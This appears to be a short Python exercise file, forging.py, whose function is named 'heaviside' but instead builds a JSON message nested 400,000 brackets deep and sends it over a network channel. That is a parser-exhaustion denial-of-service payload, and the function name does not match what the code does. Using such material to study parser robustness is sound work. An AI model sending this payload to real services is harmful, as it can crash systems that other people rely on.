# %% exercise="heaviside"
# <forging.py>


def heaviside(z):
    deep = b"[" * 400_000 + b"]" * 400_000
    channel().sendall(frame(b'{"id": ' + deep + b"}"))
